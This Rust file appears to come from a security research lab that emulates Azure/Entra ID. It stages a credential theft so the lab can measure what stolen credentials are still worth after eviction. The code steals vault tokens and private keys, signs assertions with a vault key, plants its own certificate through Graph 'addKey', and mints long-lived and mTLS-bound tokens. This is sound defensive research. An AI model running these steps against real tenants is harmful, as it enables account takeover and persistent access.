//! The theft: a thief runs code inside the app for a moment and leaves with everything there is.
//!
//! The app of this lab has every kind of credential at once. What is made with one of them does not depend on the others, so one
//! theft is enough for all rows of the table.

use base64::{Engine, prelude::BASE64_STANDARD};
use keystay_lab::LabState;
use p12_keystore::{KeyStore, KeyStoreEntry, Pkcs12ImportPolicy};
use rcgen::{CertificateParams, PKCS_RSA_SHA256, RsaKeySize};
use reqwest::{Identity, Method};
use serde_json::{Value, json};
use time::{Duration, OffsetDateTime, format_description::well_known::Rfc3339};
use uuid::Uuid;

use super::azure::{Answer, Azure, GRAPH, JWT_BEARER, KeyPair, VAULT, VaultKey, client};
use crate::cells::{ASSERTION_CAP, CREDENTIAL_LEFT, OWN_CERTIFICATE_LEFT};

/// The audience of proofs for `addKey`.
const OLD_GRAPH: &str = "00000002-0000-0000-c000-000000000000";
const TOKEN_EXCHANGE: &str = "api://AzureADTokenExchange";
/// A, in the lab: any tenant may have such tokens. The dial is the lab's, the model's is `Parameters::token_life`.
pub(crate) const TOKEN_LIFE: std::time::Duration = std::time::Duration::from_secs(90 * 60);

/// What the thief has, and the world as it was left.
pub(crate) struct Theft {
    /// The moment of the theft, in seconds since 1970. The eviction follows at the same moment.
    pub(crate) at: u64,
    pub(crate) world: LabState,
    pub(crate) secret: String,
    pub(crate) secret_ends: u64,
    pub(crate) private_key: KeyPair,
    pub(crate) private_key_ends: u64,
    pub(crate) vault_token: String,
    pub(crate) vault_key: VaultKey,
    pub(crate) premade: String,
    pub(crate) own: KeyPair,
    pub(crate) own_ends: u64,
    pub(crate) foreign: KeyPair,
    pub(crate) foreign_ends: u64,
    pub(crate) issued: String,
    pub(crate) identity_token: String,
    pub(crate) access_token: String,
    pub(crate) long_lived_token: String,
    pub(crate) bound_token: String,
}

impl Theft {
    /// Furnishes a lab, robs it, and saves what is left.
    pub(crate) async fn play() -> Self {
        let azure = Azure::start(None).await;
        let directory = azure.lab.directory();
        directory.set_token_lifetime(azure.customer, TOKEN_LIFE).unwrap();
        directory.set_mtls(azure.app, true).unwrap();
        let exchange = directory.create_managed_identity("harbor-exchange").client_id;
        let at = azure.unix() + 1;
        let until = |length: std::time::Duration| at + length.as_secs();
        // the credentials an app has before anybody breaks in
        let (secret, secret_ends) = add_secret(&azure, until(CREDENTIAL_LEFT)).await;
        let foreign = certificate(until(CREDENTIAL_LEFT));
        register(&azure, &foreign).await;
        trust(&azure, exchange).await;

        // from here on, the thief; the clock stands still for it, so that all loot is of the same age
        azure.set_unix(at);
        let vault_token = azure.identity_token("https://vault.azure.net", None).await;
        let vault_key = azure.vault_key(&vault_token, "harbor-signer").await;
        let (private_key, private_key_ends) = download(&azure, &vault_token).await;
        let locked = azure.vault_get(&vault_token, "secrets/harbor-signer").await.good();
        assert!(pkcs12_key(locked["value"].as_str().unwrap()).is_none(), "a key that stays in the vault was given out");
        let sign = async |tenant: Uuid, ends: u64| {
            let claims = azure.claims(tenant, at, ends);
            azure.vault_sign(&vault_token, &vault_key, &claims).await.unwrap()
        };
        // Entra takes any `exp`; beyond its certificate an assertion is worth nothing
        let premade = sign(azure.customer, vault_key.ends + 86_400).await;
        let issued = sign(azure.customer, until(ASSERTION_CAP)).await;
        let own = certificate(until(OWN_CERTIFICATE_LEFT));
        let at_home = sign(azure.home, at + 300).await;
        add_key(&azure, &at_home, &vault_token, &vault_key, &own).await;
        azure.set_unix(at);
        let identity_token = azure.identity_token(TOKEN_EXCHANGE, Some(exchange)).await;
        let access_token = last_token(&azure, &issued, None).await;
        let cp1 = r#"{"access_token":{"xms_cc":{"values":["cp1"]}}}"#;
        let long_lived_token = last_token(&azure, &issued, Some(cp1)).await;
        let bound_token = bound(&azure, &private_key).await;
        assert_behind_a_broker(&azure, &vault_key).await;
        azure.set_unix(at);
        Self {
            at,
            world: azure.lab.export().unwrap(),
            secret,
            secret_ends,
            private_key,
            private_key_ends,
            vault_token,
            vault_key,
            premade,
            own,
            own_ends: until(OWN_CERTIFICATE_LEFT),
            foreign,
            foreign_ends: until(CREDENTIAL_LEFT),
            issued,
            identity_token,
            access_token,
            long_lived_token,
            bound_token,
        }
    }
}

async fn last_token(azure: &Azure, assertion: &str, claims: Option<&str>) -> String {
    let mut proof = vec![("client_assertion_type", JWT_BEARER), ("client_assertion", assertion)];
    proof.extend(claims.map(|claims| ("claims", claims)));
    azure.ask(azure.customer, GRAPH, &proof).await.good()["access_token"].as_str().unwrap().to_owned()
}

/// A client secret, as an administrator makes one.
async fn add_secret(azure: &Azure, ends: u64) -> (String, u64) {
    let token = azure.operator_token(GRAPH).await;
    let body = json!({ "passwordCredential": { "displayName": "deployed", "endDateTime": rfc3339(ends) } });
    let added = azure.call(Method::POST, &format!("{}/addPassword", azure.registration()), &token, &body).await.good();
    (added["secretText"].as_str().unwrap().to_owned(), ends)
}

/// A certificate nobody remembers, beside those the app has.
async fn register(azure: &Azure, key: &KeyPair) {
    let token = azure.operator_token(GRAPH).await;
    let url = format!("{}?$select=keyCredentials", azure.registration());
    let registered = azure.call(Method::GET, &url, &token, &Value::Null).await.good();
    let mut credentials = registered["keyCredentials"].as_array().unwrap().clone();
    credentials.push(credential(key));
    let change = json!({ "keyCredentials": credentials });
    azure.call(Method::PATCH, &azure.registration(), &token, &change).await.good();
}

/// The app trusts a managed identity.
async fn trust(azure: &Azure, identity: Uuid) {
    let token = azure.operator_token(GRAPH).await;
    let principal = format!("{GRAPH}/v1.0/servicePrincipals(appId='{identity}')");
    let principal = azure.call(Method::GET, &principal, &token, &Value::Null).await.good();
    let body = json!({
        "name": "exchange",
        "issuer": format!("https://login.microsoftonline.com/{}/v2.0", azure.home),
        "subject": principal["id"],
        "audiences": [TOKEN_EXCHANGE],
    });
    let url = format!("{}/federatedIdentityCredentials", azure.registration());
    azure.call(Method::POST, &url, &token, &body).await.good();
}

/// The usual sample code: the certificate's secret is a PKCS#12 file with the private key.
async fn download(azure: &Azure, vault_token: &str) -> (KeyPair, u64) {
    let secret = azure.vault_get(vault_token, "secrets/harbor-export").await.good();
    let pair = pkcs12_key(secret["value"].as_str().unwrap()).unwrap();
    (pair, azure.vault_key(vault_token, "harbor-export").await.ends)
}

fn pkcs12_key(base64: &str) -> Option<KeyPair> {
    let pfx = BASE64_STANDARD.decode(base64).unwrap();
    let store = KeyStore::from_pkcs12(&pfx, "", Pkcs12ImportPolicy::Relaxed).unwrap();
    store.entries().find_map(|(_, entry)| match entry {
        KeyStoreEntry::PrivateKeyChain(chain) => Some(KeyPair {
            der: chain.certs().first()?.as_der().to_vec(),
            pem: pem::encode(&pem::Pem::new("PRIVATE KEY", chain.key().as_der().to_vec())),
        }),
        _ => None,
    })
}

/// The thief adds a certificate: a proof signed by a registered key, and a Graph token of the home tenant without any permission.
async fn add_key(azure: &Azure, at_home: &str, vault_token: &str, vault_key: &VaultKey, own: &KeyPair) {
    let proof = [("client_assertion_type", JWT_BEARER), ("client_assertion", at_home)];
    let graph = azure.ask(azure.home, GRAPH, &proof).await.good()["access_token"].as_str().unwrap().to_owned();
    let object = azure.lab.directory().application(azure.app).unwrap().id;
    let now = azure.unix();
    let claims = json!({ "aud": OLD_GRAPH, "iss": object, "nbf": now, "exp": now + 600 });
    let proof = azure.vault_sign(vault_token, vault_key, &claims).await.unwrap();
    let body = json!({ "keyCredential": credential(own), "passwordCredential": null, "proof": proof });
    azure.call(Method::POST, &format!("{}/addKey", azure.registration()), &graph, &body).await.good();
}

/// A token bound to the app's TLS key, which works with the key: what it is worth without, is measured.
async fn bound(azure: &Azure, key: &KeyPair) -> String {
    let certificate = pem::encode(&pem::Pem::new("CERTIFICATE", key.der.clone()));
    let identity = Identity::from_pem(format!("{certificate}{}", key.pem).as_bytes()).unwrap();
    let http = client(&azure.lab).identity(identity).build().unwrap();
    let app = azure.app.to_string();
    let form = [
        ("grant_type", "client_credentials"),
        ("client_id", app.as_str()),
        ("scope", "https://graph.microsoft.com/.default"),
        ("token_type", "mtls_pop"),
    ];
    let url = format!("https://mtlsauth.microsoft.com/{}/oauth2/v2.0/token", azure.customer);
    let token = Answer::to(http.post(url).form(&form)).await.good()["access_token"].as_str().unwrap().to_owned();
    let used = http.get(BOUND_USERS).header("authorization", format!("mtls_pop {token}"));
    Answer::to(used).await.good();
    token
}

/// Where a bound token is used.
pub(crate) const BOUND_USERS: &str = "https://mtlstb.graph.microsoft.com/v1.0/users?$top=1";

/// Behind a broker, the app has an identity without a role at the vault: it gets nothing signed and reads no secret.
async fn assert_behind_a_broker(azure: &Azure, key: &VaultKey) {
    let identity = azure.lab.directory().create_managed_identity("harbor-brokered").client_id;
    let token = azure.identity_token("https://vault.azure.net", Some(identity)).await;
    let claims = azure.claims(azure.customer, azure.unix(), azure.unix() + 300);
    let refused = azure.vault_sign(&token, key, &claims).await.unwrap_err();
    assert_eq!(refused.status, reqwest::StatusCode::FORBIDDEN, "{}", refused.body);
    let refused =
        Answer::to(azure.http.get(format!("{VAULT}/secrets/harbor-export?api-version=7.6")).bearer_auth(&token));
    assert_eq!(refused.await.status, reqwest::StatusCode::FORBIDDEN);
}

fn credential(key: &KeyPair) -> Value {
    json!({ "type": "AsymmetricX509Cert", "usage": "Verify", "key": BASE64_STANDARD.encode(&key.der) })
}

fn certificate(ends: u64) -> KeyPair {
    let key = rcgen::KeyPair::generate_rsa_for(&PKCS_RSA_SHA256, RsaKeySize::_2048).unwrap();
    let ends = OffsetDateTime::from_unix_timestamp(i64::try_from(ends).unwrap()).unwrap();
    let mut params = CertificateParams::default();
    params.not_before = ends - Duration::days(800);
    params.not_after = ends;
    let certificate = params.self_signed(&key).unwrap();
    KeyPair { der: certificate.der().to_vec(), pem: key.serialize_pem() }
}

fn rfc3339(unix: u64) -> String {
    OffsetDateTime::from_unix_timestamp(i64::try_from(unix).unwrap()).unwrap().format(&Rfc3339).unwrap()
}
